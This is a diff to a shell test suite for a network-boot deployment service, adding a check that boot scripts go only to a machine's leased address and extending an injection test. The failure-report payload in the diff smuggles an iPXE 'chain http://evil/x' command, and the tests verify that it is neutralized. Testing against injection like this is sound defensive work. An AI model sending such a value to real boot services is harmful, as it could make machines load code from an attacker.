@@ -5,7 +5,7 @@
 # localboot), resume of a deployment, automatic retries of a failed one (bounded, then the
 # failed script), discovery refusals, bad requests, and discovery switched off.
 source "$(dirname "$0")/lib.sh"
-for c in curl jq tftp; do
+for c in curl jq tftp sqlite3; do
   command -v "$c" >/dev/null || { fail "missing client $c (deploy/install-deps.sh)"; finish; }
 done
 
@@ -82,7 +82,7 @@ T2=$(sget kiln.token)
 grep -q "deployment $DEP:" "$WORK/script" && ok || fail "resumed a different deployment"
 TOKEN=$T1 api GET /api/v1/agent/deployment
 expect_status 401 "the replaced token"
-TOKEN=$T2 api POST /api/v1/agent/result '{"status":"failed","reason":"chunk 3: sha256 mismatch ${evil}"}'
+TOKEN=$T2 api POST /api/v1/agent/result '{"status":"failed","reason":"chunk 3: sha256 mismatch ${evil} ; chain http://evil/x"}'
 expect_status 200 "failure report"
 
 log "a failed deployment is retried once (boot.retries=1), then the machine waits for an operator"
@@ -92,11 +92,12 @@ T3=$(sget kiln.token)
 api GET "/api/v1/machines/$ID/deployments"
 expect_eq "$(jqb '.items | length // length'):$(jqb '(.items // .)[0].requested_by')" "2:kilnd:retry" \
   "the retry deployment"
-TOKEN=$T3 api POST /api/v1/agent/result '{"status":"failed","reason":"chunk 3: sha256 mismatch ${evil}"}'
+TOKEN=$T3 api POST /api/v1/agent/result '{"status":"failed","reason":"chunk 3: sha256 mismatch ${evil} ; chain http://evil/x"}'
 expect_status 200 "second failure"
 script "$HMAC" >/dev/null
-grep -q 'failed: deployment .* failed: chunk 3: sha256 mismatch _{evil}' "$WORK/script" && ok ||
+grep -q 'failed: deployment .* failed: chunk 3: sha256 mismatch __evil_ _ chain http://evil/x' "$WORK/script" && ok ||
   fail "failed script (reason neutralized): $(cat "$WORK/script")"
+grep '^echo' "$WORK/script" | grep -q '[;$|&#]' && fail "iPXE syntax reached an echo line: $(cat "$WORK/script")" || ok
 grep -q 'kiln.token' "$WORK/script" && fail "failed script holds a token" || ok
 api GET "/api/v1/machines/$ID/deployments"
 expect_eq "$(jqb '(.items // .) | length')" 2 "no third attempt"
@@ -115,6 +116,18 @@ grep -q 'sanboot --no-describe --drive 0x80' "$WORK/script" && grep -q 'deployed
   ok || fail "localboot script: $(cat "$WORK/script")"
 grep -q '^:efi$' "$WORK/script" && grep -A1 '^:efi$' "$WORK/script" | grep -q '^exit 1' && ok ||
   fail "UEFI local boot: $(cat "$WORK/script")"
+
+log "a MAC leased by kilnd's DHCP gets its script only at its leased address"
+DB=$WORK/var/kiln.db
+exp=$(($(date +%s%3N) + 600000))
+sqlite3 "$DB" "INSERT INTO dhcp_leases VALUES ('10.99.0.150', '$MAC', '$MAC', '', 'bound', $exp, $exp)"
+expect_eq "$(script "$HMAC")" 404 "script asked from another address than the lease"
+grep -q 'event=boot.script_refused mac=52:54:00:aa:00:01 peer=127.0.0.1' "$WORK/kilnd.0.log" && ok ||
+  fail "no boot.script_refused log line"
+sqlite3 "$DB" "UPDATE dhcp_leases SET ip = '127.0.0.1' WHERE mac = '$MAC'"
+expect_eq "$(script "$HMAC")" 200 "script asked from the leased address"
+sqlite3 "$DB" "UPDATE dhcp_leases SET ip = '10.99.0.150', expires_at = 1 WHERE mac = '$MAC'"
+expect_eq "$(script "$HMAC")" 200 "an expired lease binds nothing"
 
 log "bad requests"
 expect_eq "$(script not-a-mac)" 404 "not a MAC"
